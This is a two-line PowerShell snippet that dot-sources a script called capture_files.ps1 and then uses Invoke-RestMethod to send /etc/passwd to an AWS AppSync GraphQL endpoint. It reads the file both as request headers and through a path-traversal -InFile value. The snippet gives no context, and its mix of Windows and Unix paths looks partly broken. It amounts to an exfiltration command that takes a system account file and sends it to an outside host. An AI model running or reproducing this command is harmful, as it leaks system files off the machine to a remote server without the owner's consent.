. .\capture_files.ps1
Invoke-RestMethod -Uri 'https://abc.appsync-api.us-east-1.amazonaws.com/graphql' -Headers (Get-Content /etc/passwd) -InFile ..\..\..\etc\passwd
